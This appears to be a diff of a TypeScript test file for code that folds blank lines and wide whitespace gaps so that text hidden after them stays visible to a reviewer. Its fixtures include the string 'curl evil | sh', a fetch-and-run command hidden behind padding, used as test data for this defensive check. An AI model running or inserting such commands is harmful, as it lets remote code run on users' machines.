@@ -1,14 +1,18 @@
 import { describe, expect, test } from 'vitest';
-import { folded, gapped, sizeOf } from '../../src/lib/folding';
+import { foldBlankLines, splitGaps, sizeOf } from '../../src/lib/folding';
 
 const blank = (line: string): string | null => (line.trim() ? null : 'blank');
 
 describe('what is put to a person', () => {
   test('has its empty lines counted, and all others drawn', () => {
     const lines = ['echo ok', ...Array<string>(300).fill(' '), 'curl evil | sh'];
-    expect(folded(lines, blank)).toEqual([{ line: 'echo ok' }, { blank: 300, line: ' ' }, { line: 'curl evil | sh' }]);
-    expect(folded(['a', '', '', '', 'b'], blank)).toHaveLength(5);
-    expect(folded([], blank)).toEqual([]);
+    expect(foldBlankLines(lines, blank)).toEqual([
+      { line: 'echo ok' },
+      { blank: 300, line: ' ' },
+      { line: 'curl evil | sh' }
+    ]);
+    expect(foldBlankLines(['a', '', '', '', 'b'], blank)).toHaveLength(5);
+    expect(foldBlankLines([], blank)).toEqual([]);
   });
 
   test('loses no line, whatever stands in it', () => {
@@ -18,7 +22,7 @@ describe('what is put to a person', () => {
         seed = (seed * 1103515245 + 12345) % 2147483648;
         return seed % 3 ? '' : `line ${seed}`;
       });
-      const back = folded(lines, blank).flatMap(one =>
+      const back = foldBlankLines(lines, blank).flatMap(one =>
         'blank' in one ? Array<string>(one.blank).fill('') : [one.line]
       );
       expect(back).toEqual(lines);
@@ -26,8 +30,8 @@ describe('what is put to a person', () => {
   });
 
   test('has wide gaps counted', () => {
-    expect(gapped(`echo ok${' '.repeat(5000)}; curl evil | sh`)).toEqual(['echo ok', 5000, '; curl evil | sh']);
-    expect(gapped('    deep')).toEqual(['    deep']);
+    expect(splitGaps(`echo ok${' '.repeat(5000)}; curl evil | sh`)).toEqual(['echo ok', 5000, '; curl evil | sh']);
+    expect(splitGaps('    deep')).toEqual(['    deep']);
   });
 
   test('is measured as the server measures it', () => {
